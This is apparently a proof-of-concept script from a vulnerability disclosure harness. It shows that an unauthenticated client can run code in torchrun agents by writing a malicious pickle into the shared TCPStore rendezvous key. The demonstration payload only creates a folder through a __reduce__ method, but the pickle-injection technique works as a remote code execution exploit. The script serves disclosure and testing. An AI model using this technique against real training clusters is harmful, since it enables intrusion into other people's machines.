"""Anyone who reaches the store's port can run code in every agent, because the shared state is a pickle.

A client need not authenticate itself, and the server listens on all addresses whatever the endpoint is. The code in
this script only creates a folder.
"""

from __future__ import annotations

import os
import pickle
from base64 import b64encode
from pathlib import Path
from typing import Any

from .stage import Evidence, Lab, Nodes, present, watch

ANY_ADDRESS = ("00000000", "0" * 32)


class MakesFolder:
    """Unpickles into a call of `os.mkdir`."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> Any:
        return (os.mkdir, (self.path,))


def show() -> Evidence:
    from torch.distributed import TCPStore

    with Lab() as lab, Nodes(lab, "torchrun", "1:1") as job:
        job.add()
        job.formed(1)
        made = job.folder / "made-by-the-agent"
        stranger = TCPStore("127.0.0.1", job.port, is_master=False, wait_for_workers=False)
        payload = b64encode(pickle.dumps(MakesFolder(str(made)))).decode()
        stranger.set("torch.rendezvous.bench", payload)
        for _ in range(100):
            watch(job, 0.1)
            if made.exists():
                break
        where = "all addresses" if job.port in open_to_all() else "the endpoint's address only"
        did = "ran" if made.exists() else "did not run"
        return Evidence(made.exists(), f"the agent {did} a stranger's call; it listens on {where}")


def open_to_all() -> set[int]:
    """Return the ports with a listener on all addresses of this machine."""
    lines = [
        line.split()[1]
        for table in ("/proc/net/tcp", "/proc/net/tcp6")
        for line in Path(table).read_text().splitlines()[1:]
    ]
    pairs = [line.split(":") for line in lines]
    return {int(port, 16) for address, port in pairs if address in ANY_ADDRESS}


if __name__ == "__main__":
    present(show)
